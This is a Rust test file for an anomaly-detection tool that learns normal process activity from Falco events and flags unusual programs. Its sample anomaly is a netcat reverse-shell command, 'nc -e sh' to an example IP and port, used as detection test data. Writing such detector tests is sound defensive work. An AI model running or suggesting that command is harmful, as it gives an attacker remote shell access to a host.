//! `lanner profile`: events in, a profile and findings out.

use std::path::Path;

use serde_json::{Value, json};

use crate::program::{run, run_with_input};

/// A program that was started, as Falco writes it.
fn event(minute: u32, parent: &str, line: &str) -> String {
    let exe = line.split(' ').next().unwrap();
    json!({
        "time": format!("2026-01-{:02}T{:02}:{:02}:00.000000000Z", 1 + minute / 1_440, minute / 60 % 24, minute % 60),
        "rule": "Program started", "priority": "Notice", "source": "syscall", "hostname": "web-1",
        "output_fields": {
            "evt.type": "execve", "proc.exepath": format!("/usr/bin/{exe}"), "proc.name": exe, "proc.pname": parent,
            "proc.cmdline": line, "container.image.repository": "shop/web",
        },
    })
    .to_string()
        + "\n"
}

/// Two days, with one program a minute.
fn usual() -> String {
    (0..2_880)
        .map(|minute| match minute % 3 {
            0 => event(minute, "cron", &format!("backup --run {minute}")),
            1 => event(minute, "nginx", "php -f index.php"),
            _ => event(minute, "systemd", "logrotate nginx.conf"),
        })
        .collect()
}

fn write(folder: &Path, name: &str, text: &str) -> String {
    let path = folder.join(name);
    std::fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn what_is_unusual_is_found_with_the_reason() {
    let folder = tempfile::tempdir().unwrap();
    let (events, out) = (write(folder.path(), "usual.json", &usual()), folder.path().join("host.profile"));
    let out = out.to_str().unwrap();
    run(&["profile", "learn", "--out", out, &events]).says(
        0,
        &["exec: learned 2880 events in 2.0 days, 3 behaviours; expect 0.0 flags a day with rare: 1"],
    );
    run(&["profile", "learn", "--out", out, &events]).says(2, &["exists", "--more"]);
    run(&["profile", "watch", "--frozen", out, &events]).expect(0);

    let strange = event(2_881, "nginx", "nc -e sh 203.0.113.7 4444")
        + "no JSON\n"
        + &event(2_882, "cron", "backup --run 9");
    let ran = run_with_input(&["profile", "watch", out, "-"], strange.as_bytes());
    ran.says(1, &["-:2: the line is not a JSON object"]);
    let found = run_with_input(&["profile", "watch", out, "-"], strange.as_bytes()).expect(1);
    assert_eq!(
        found,
        "2026-01-03T00:01:00Z  exec  nc -e sh 203.0.113.7 4444 (started by nginx): never seen: proc.exepath, \
         template(proc.cmdline)\n"
    );
    let moved = event(2_881, "nginx", "backup --run 3");
    let explained =
        run_with_input(&["profile", "explain", "--format", "json", out, "-"], moved.as_bytes()).expect(0);
    let explained: Value = serde_json::from_str(&explained).unwrap();
    assert_eq!(explained[1]["reason"], "never seen with this proc.pname", "{explained}");
    assert_eq!((&explained[1]["value"], &explained[1]["seen"]), (&json!("nginx"), &json!(15)));
    assert_eq!(
        (&explained[2]["value"], &explained[2]["seen_without"]),
        (&json!("backup --run #"), &json!(0))
    );
}

#[test]
fn findings_are_written_as_others_read_them() {
    let folder = tempfile::tempdir().unwrap();
    let (events, out) = (write(folder.path(), "usual.json", &usual()), folder.path().join("host.profile"));
    let out = out.to_str().unwrap();
    run(&["profile", "learn", "--out", out, &events]).expect(0);
    let strange = event(2_881, "nginx", "nc -e sh 203.0.113.7 4444");
    let written = |form: &str| -> Value {
        let ran =
            run_with_input(&["profile", "watch", "--frozen", "--output", form, out, "-"], strange.as_bytes());
        serde_json::from_str(&ran.expect(1)).unwrap()
    };
    let falco = written("falco");
    assert_eq!((&falco["rule"], &falco["hostname"]), (&json!("Unusual behaviour (exec)"), &json!("web-1")));
    assert_eq!(falco["output_fields"]["anomaly.rare"], true);
    assert_eq!(falco["output_fields"]["proc.pname"], "nginx");
    let ocsf = written("ocsf");
    assert_eq!(
        (&ocsf["class_uid"], &ocsf["type_uid"], &ocsf["time"]),
        (&json!(2_004), &json!(200_401), &json!(1_767_398_460_000_i64))
    );
    let anomaly = &ocsf["anomaly_analyses"][0]["anomalies"][0];
    assert_eq!(
        (&anomaly["observed_pattern"], &anomaly["observations"][0]["count"]),
        (&json!("UNSEEN"), &json!(1))
    );
    let ecs = written("ecs");
    assert_eq!(
        (&ecs["event"]["kind"], &ecs["process"]["parent"]["name"]),
        (&json!("alert"), &json!("nginx"))
    );
    assert_eq!(ecs["container"]["image"]["name"], "shop/web");
    let own = written("json");
    assert_eq!(own["answer"]["new_values"], json!(["proc.exepath", "template(proc.cmdline)"]));
}

#[test]
fn profiles_are_kept_merged_and_unlearned() {
    let folder = tempfile::tempdir().unwrap();
    let events = write(folder.path(), "usual.json", &usual());
    let path = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let (a, b, both) = (path("a.profile"), path("b.profile"), path("both.profile"));
    run(&["profile", "learn", "--out", &a, &events]).expect(0);
    let other = write(folder.path(), "other.json", &event(2_870, "sshd", "bash -l"));
    run(&["profile", "learn", "--from", &a, "--out", &b, &other]).expect(0);
    run(&["profile", "merge", "--out", &both, &a, &b]).says(0, &["bounds from above"]);
    let shown: Value =
        serde_json::from_str(&run(&["profile", "show", "--format", "json", &both]).expect(0)).unwrap();
    assert_eq!(
        (&shown[0]["events"], &shown[0]["behaviours"], &shown[0]["status"]),
        (&json!(2_881), &json!(4), &json!("active"))
    );
    let top = run(&["profile", "top", "--limit", "1", "--format", "csv", &both]).expect(0);
    assert!(top.contains("exec,960,960,shop/web | /usr/bin/"), "{top}");

    let again = event(2_900, "sshd", "bash -l");
    run_with_input(&["profile", "watch", "--frozen", &both, "-"], again.as_bytes()).expect(0);
    run(&["profile", "unlearn", &both, "--from", "2026-01-02T00:00Z", "--to", "2026-01-03T00:00Z"])
        .says(0, &["exec: forgot everything from 2026-01-02T00:00:00Z to 2026-01-03T00:00:00Z"]);
    run_with_input(&["profile", "watch", "--frozen", &both, "-"], again.as_bytes()).expect(1);

    let foreign = path("foreign.profile");
    run(&["profile", "learn", "--out", &foreign, &other]).expect(0);
    run(&["profile", "merge", "--out", &both, &a, &foreign])
        .says(2, &["differ in their seed", "--from PROFILE"]);
    let damaged = std::fs::read(&a).unwrap();
    std::fs::write(&a, &damaged[..damaged.len() / 2]).unwrap();
    run(&["profile", "show", &a]).says(2, &["a.profile", "cut short"]);
    let mistakes = write(
        folder.path(),
        "mistakes.yaml",
        "profiles:\n  - { id: x, fields: [hash(a)], where: 'a ==', by: '' }\n",
    );
    let told = run(&["profile", "learn", "--config", &mistakes, "--out", &path("x"), &other]);
    assert_eq!(told.code, 2, "{told:?}");
    for part in ["fields[0]: \"hash\" is not a function", "profiles[0].where", "profiles[0].by"] {
        assert!(told.out.contains(part), "{told:?}");
    }
}
